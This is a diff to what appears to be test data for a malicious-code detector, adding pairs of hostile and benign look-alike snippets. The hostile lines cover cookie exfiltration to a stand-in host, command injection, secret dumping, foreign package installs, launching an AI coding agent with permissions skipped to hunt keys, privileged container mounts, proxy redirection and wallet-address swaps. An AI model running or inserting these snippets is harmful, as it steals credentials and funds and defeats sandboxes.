@@ -46,6 +46,18 @@ PAIRS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
         ("a.py", "import pyperclip, requests\nrequests.post('https://c.invalid', data=pyperclip.paste())"),
         ("a.py", "import pyperclip, requests\npyperclip.copy(requests.get('https://c.invalid').text)"),
     ),
+    "chain.page-to-network": (
+        ("a.js", "fetch('https://c.invalid/?c=' + document.cookie)"),
+        ("a.js", "fetch(API + '/?c=' + document.cookie)"),
+    ),
+    "chain.request-to-process": (
+        ("a.py", "import os\ndef view(request):\n    os.system(request.GET['c'])"),
+        ("a.py", "import subprocess\ndef view(request):\n    subprocess.run(['git', 'log', request.GET['c']])"),
+    ),
+    "chain.secrets-to-log": (
+        ("a.js", "console.log(Buffer.from(JSON.stringify(process.env)).toString('base64'))"),
+        ("a.js", "console.log(process.env.DEBUG)"),
+    ),
     "chain.network-to-code": (
         ("a.py", "import urllib.request as u\nexec(u.urlopen('https://c.invalid/x').read())"),
         ("a.py", "import urllib.request as u, json\njson.loads(u.urlopen('https://c.invalid/x').read())"),
@@ -113,6 +125,30 @@ PAIRS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
     "miner.run": (
         ("a.py", "import subprocess\nsubprocess.Popen(['/tmp/m', '-o', 'stratum+tcp://pool.invalid:3333'])"),
         ("a.py", "import subprocess\nsubprocess.Popen(['/tmp/m', '-o', 'tcp://pool.invalid:3333'])"),
+    ),
+    "package.foreign": (
+        ("a.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-i', 'https://p.invalid/simple', 'x'])"),
+        ("a.py", "import subprocess, sys\ndef f(name):\n    subprocess.run([sys.executable, '-m', 'pip', 'install', name])"),
+    ),
+    "agent.abuse": (
+        ("a.js", "require('child_process').spawnSync('claude', ['-p', 'find keys', '--dangerously-skip-permissions'])"),
+        ("a.js", "require('child_process').spawnSync('claude', ['--version'])"),
+    ),
+    "escape.container": (
+        ("a.py", "import os\nos.system('docker run --privileged -v /:/h x')"),
+        ("a.py", "import os\nos.system('docker run -v /srv/data:/data x')"),
+    ),
+    "memory.execute": (
+        ("a.py", "import mmap\nm = mmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_EXEC)"),
+        ("a.py", "import mmap\nm = mmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_WRITE)"),
+    ),
+    "traffic.redirect": (
+        ("a.py", "import os\nos.environ['HTTPS_PROXY'] = 'http://p.invalid:8080'"),
+        ("a.py", "import os\nos.environ['HTTPS_PROXY'] = proxy"),
+    ),
+    "wallet.swap": (
+        ("a.js", "tx.to = '0x" + "0" * 36 + "dEaD'"),
+        ("a.js", "tx.hash = '0x" + "0" * 36 + "dEaD'"),
     ),
     "watch.user": (
         ("a.py", "from pynput import keyboard\nkeyboard.Listener(on_press=f).start()"),
